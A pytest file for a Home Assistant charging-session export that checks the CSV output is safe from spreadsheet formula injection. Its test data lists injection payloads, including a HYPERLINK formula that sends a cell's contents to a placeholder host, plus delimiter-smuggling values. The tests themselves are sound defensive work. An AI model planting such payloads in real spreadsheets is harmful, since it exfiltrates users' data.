"""A table of sessions runs nothing in the spreadsheet that opens it, whoever gave the names in it."""

import csv
import io
from pathlib import Path

from homeassistant.core import HomeAssistant
from pytest_homeassistant_custom_component.common import MockConfigEntry
from pytest_homeassistant_custom_component.typing import ClientSessionGenerator

from custom_components.ykc.server.booking import Booking
from custom_components.ykc.session_export import COLUMNS

from .conftest import DC_PILE
from .test_page_commands import TABLE
from .test_sessions import ask, store

FORMULAS = [
    *(
        "=1+1",
        "\x1b@A1",
        "\ufeff=1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
    ),
    *('=HYPERLINK("http://a.example/?"&A1,"Anna")', "Anna;=1+1", "Anna\t=1+1", "Anna\n@SUM(A1)", "Anna|-1", 'A";=1;"'),
]
HARMLESS = ["Anna", "安娜", "A=B", "Anne-Marie", "a@example.com", "Tor 2; Hof", "Müller, Söhne", "1+1"]


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet would take a cell for a formula."""
    # Some drop what they cannot show.
    return cell.strip("\0\x1b\ufeff \t\r\n").startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


async def tables(hass: HomeAssistant, client: ClientSessionGenerator) -> list[str]:
    """Return the table that the action writes, and the one that the page downloads."""
    path = Path((await ask(hass, "export_sessions"))["path"])
    written = await hass.async_add_executor_job(path.read_bytes)
    downloaded = await (await (await client()).get(TABLE)).read()
    return [table.decode("utf-8-sig") for table in (written, downloaded)]


async def name_all(hass: HomeAssistant, site: MockConfigEntry, number: int, name: str) -> None:
    """Give the pile, and a session's driver and vehicle, a name."""
    (pile,) = (pile for pile in site.subentries.values() if pile.unique_id == DC_PILE)
    hass.config_entries.async_update_subentry(site, pile, title=name)
    await hass.async_block_till_done()
    vin = "".join(filter(str.isascii, name))[:17]
    await store(hass, number, booking=Booking(driver=str(number), name=name), vin=vin)


async def test_no_cell_is_a_formula(
    hass: HomeAssistant, hass_client: ClientSessionGenerator, site: MockConfigEntry
) -> None:
    """Also where the spreadsheet takes something else than a comma for the end of a cell."""
    for number, name in enumerate(FORMULAS, 1):
        await name_all(hass, site, number, name)
        for table in await tables(hass, hass_client):
            _, *rows = csv.reader(io.StringIO(table, newline=""))
            assert len(rows) == number  # the newest first
            cells = dict(zip(COLUMNS, rows[0], strict=True))
            assert cells["name"].replace("'", "") == cells["driver"].replace("'", "") == name
            assert [cell for row in rows for cell in row if runs(cell)] == []
            # What begins with a tab is a number that is to be kept as it is.
            assert all(cell[1:].isalnum() for row in rows for cell in row if cell.startswith(("\t", "\r", "\n")))
            for delimiter in ";|\t":
                pieces = [piece for line in csv.reader(table.splitlines(), delimiter=delimiter) for piece in line]
                assert [piece for piece in pieces if runs(piece)] == []


async def test_other_names_stay(
    hass: HomeAssistant, hass_client: ClientSessionGenerator, site: MockConfigEntry
) -> None:
    """What is no formula is written as it is."""
    for number, name in enumerate(HARMLESS, 1):
        await store(hass, number, booking=Booking(driver=str(number), name=name))
    for table in await tables(hass, hass_client):
        _, *rows = csv.reader(io.StringIO(table, newline=""))
        names = [dict(zip(COLUMNS, row, strict=True))["driver"] for row in rows]
        assert sorted(names) == sorted(HARMLESS)
